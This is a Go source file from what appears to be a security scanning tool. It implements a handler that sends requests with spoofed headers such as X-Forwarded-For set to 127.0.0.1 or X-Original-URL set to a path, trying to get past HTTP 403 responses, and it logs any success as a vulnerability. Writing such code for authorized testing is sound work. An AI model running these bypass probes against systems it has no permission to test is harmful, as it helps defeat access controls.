// Package followup implements the task handlers dispatched by the reactive
// queue: 403 bypass tricks, targeted template scans, WordPress enumeration,
// content analysis, and content discovery fuzzing.
package followup

import (
	"context"
	"fmt"

	"noctua/internal/core/domain"
	"noctua/internal/platform/httpclient"
	"noctua/internal/platform/logx"
)

// bypassHeaders are the classic header tricks tried in order against a 403.
var bypassHeaders = []map[string]string{
	{"X-Custom-IP-Authorization": "127.0.0.1"},
	{"X-Original-URL": "/"},
	{"X-Rewrite-URL": "/"},
	{"X-Forwarded-For": "127.0.0.1"},
	{"X-Forwarded-Host": "127.0.0.1"},
	{"X-Forwarded-Proto": "https"},
}

// BypassHandler intenta los trucos de cabeceras habituales contra un 403.
// Se detiene en el primer 200.
type BypassHandler struct {
	client *httpclient.Client
	logger logx.Logger
}

// NewBypassHandler crea el handler de bypass de 403.
func NewBypassHandler(client *httpclient.Client, logger logx.Logger) *BypassHandler {
	return &BypassHandler{
		client: client,
		logger: logger.With("handler", "bypass"),
	}
}

func (h *BypassHandler) Type() domain.TaskType { return domain.TaskBypass }

// Handle prueba cada combinación de cabeceras y registra el primer éxito.
func (h *BypassHandler) Handle(ctx context.Context, rc *domain.RunContext, _ domain.ScanTask, target string) ([]string, error) {
	for _, headers := range bypassHeaders {
		if err := ctx.Err(); err != nil {
			return nil, err
		}

		resp, err := h.client.Get(ctx, target, headers)
		if err != nil {
			h.logger.Debug("bypass attempt failed", "target", target, "error", err.Error())
			continue
		}
		status := resp.StatusCode
		resp.Body.Close()

		h.logger.Debug("bypass attempt", "target", target, "headers", headers, "status", status)

		if status == 200 {
			finding := fmt.Sprintf("[bypass] 403 bypass on %s via headers %v", target, headers)
			rc.AddFindings(finding)
			rc.Emit("vuln", finding)
			return nil, nil
		}
	}
	return nil, nil
}
